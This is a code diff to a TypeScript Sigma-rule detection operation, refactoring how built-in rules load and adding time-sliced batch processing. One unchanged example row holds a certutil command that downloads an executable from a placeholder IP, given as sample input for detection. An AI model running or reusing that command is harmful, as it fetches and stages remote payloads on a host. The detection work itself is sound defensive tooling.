@@ -1,8 +1,7 @@
 import { z } from 'zod';
 import { wrongField } from '../../shared/kit/fault.ts';
 import { operation } from '../../shared/kit/operation.ts';
-import { knownBinaries } from '../../shared/sigma/binaries.ts';
-import { builtInFiles } from '../../shared/sigma/built-in.gen.ts';
+import { builtInRules } from '../../shared/sigma/built-in.ts';
 import { candidates } from '../../shared/sigma/candidates.ts';
 import { rowCells } from '../../shared/sigma/cell.ts';
 import { Correlator } from '../../shared/sigma/correlator.ts';
@@ -11,6 +10,7 @@ import { type ReadyRule, ruleSet, type SigmaSource } from '../../shared/sigma/ru
 import { rulesIn } from '../../shared/sigma/sources.ts';
 import { batches, tableInput } from '../../shared/tables/source.ts';
 import { isoOf, timeOf } from '../../shared/tables/time.ts';
+import { inPieces } from '../../shared/tables/work.ts';
 
 const source = (what: string) => z.string().max(100).optional().describe(`Use only rules for this ${what}, and rules that name none.`);
 /** Columns that tables have for the time of an event, in the order in which they are tried. */
@@ -62,7 +62,7 @@ export default operation({
     }),
   },
   limits: { rows: 100_000, seconds: 120, bytes: 64_000_000 },
-  uses: ['blobs'],
+  uses: ['blobs', 'clock'],
   examples: [
     {
       given: { rows: [{ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe' }], product: 'windows' },
@@ -76,7 +76,7 @@ export default operation({
       call.problem({ code: 'bad-rule', about, detail });
     };
     const own = read('rules', input.rules ?? '');
-    const shipped = input.builtIn ? builtIn() : [];
+    const shipped = input.builtIn ? builtInRules() : [];
     const kept = input.folder === undefined ? [] : await rulesIn(input.folder, ports.blobs, flawed);
     const { rules, correlations } = ruleSet([...shipped, ...kept, ...own], { source: input, placeholders: input.placeholders, flawed });
     const usable = new Set<unknown>([...rules, ...correlations].map(({ rule }) => rule));
@@ -91,7 +91,7 @@ export default operation({
     const times = input.timeColumn === undefined ? timeColumns : [input.timeColumn];
     let place = 0;
     let timeless = 0;
-    for await (const batch of batches(input, ports, call))
+    for await (const batch of inPieces(batches(input, ports, call), { call, clock: ports.clock }))
       for (const line of batch) {
         const row = place++;
         const cells = rowCells(line, names);
@@ -120,11 +120,6 @@ export default operation({
 
 const headOf = ({ title, id, level, tags, description }: { title: string; id?: string | undefined; level: string; tags: string[]; description?: string | undefined }) =>
   ({ rule: title, rule_id: id ?? null, level, tags, description: description ?? null });
-
-const builtIn = (): SigmaSource[] => [
-  ...Object.entries(builtInFiles).flatMap(([about, text]) => read(about, text)),
-  ...knownBinaries(),
-];
 
 const read = (about: string, text: string): SigmaSource[] => readRules(text, about).map((document) => ({ about, document }));
 
